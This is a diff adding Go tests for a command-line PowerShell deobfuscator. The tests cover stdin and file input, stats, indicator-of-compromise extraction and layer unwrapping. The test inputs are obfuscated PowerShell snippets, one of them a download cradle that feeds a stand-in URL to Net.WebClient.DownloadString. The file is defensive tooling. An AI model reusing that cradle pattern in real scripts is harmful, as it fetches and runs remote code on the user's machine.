@@ -1,0 +1,74 @@
+package main
+
+import (
+	"bytes"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestRunStdin(t *testing.T) {
+	var stdout, stderr bytes.Buffer
+	in := strings.NewReader("i`ex ('write-ho'+'st clitest')")
+	if err := run([]string{"-stats"}, in, &stdout, &stderr); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(stdout.String(), "Write-Host clitest") {
+		t.Errorf("stdout = %q", stdout.String())
+	}
+	if !strings.Contains(stderr.String(), "tokens=") {
+		t.Errorf("stderr = %q", stderr.String())
+	}
+}
+
+func TestRunFile(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "s.ps1")
+	if err := os.WriteFile(path, []byte("IEX 'write-host fromfile'"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	var stdout, stderr bytes.Buffer
+	if err := run([]string{path}, strings.NewReader(""), &stdout, &stderr); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(stdout.String(), "Write-Host fromfile") {
+		t.Errorf("stdout = %q", stdout.String())
+	}
+}
+
+func TestRunIOCs(t *testing.T) {
+	var stdout, stderr bytes.Buffer
+	in := strings.NewReader("$u = 'http'+'://cli.test/x.ps1'\n(New-Object Net.WebClient).DownloadString($u)")
+	if err := run([]string{"-iocs"}, in, &stdout, &stderr); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(stderr.String(), "http://cli.test/x.ps1") {
+		t.Errorf("IOCs missing: %q", stderr.String())
+	}
+}
+
+func TestRunLayers(t *testing.T) {
+	var stdout, stderr bytes.Buffer
+	in := strings.NewReader("IEX 'IEX ''write-host deep'''")
+	if err := run([]string{"-layers"}, in, &stdout, &stderr); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(stdout.String(), "----- layer 1 -----") {
+		t.Errorf("layers missing: %q", stdout.String())
+	}
+}
+
+func TestRunInvalidInput(t *testing.T) {
+	var stdout, stderr bytes.Buffer
+	if err := run(nil, strings.NewReader("while ("), &stdout, &stderr); err == nil {
+		t.Error("expected error")
+	}
+}
+
+func TestRunTooManyArgs(t *testing.T) {
+	var stdout, stderr bytes.Buffer
+	if err := run([]string{"a.ps1", "b.ps1"}, strings.NewReader(""), &stdout, &stderr); err == nil {
+		t.Error("expected error")
+	}
+}
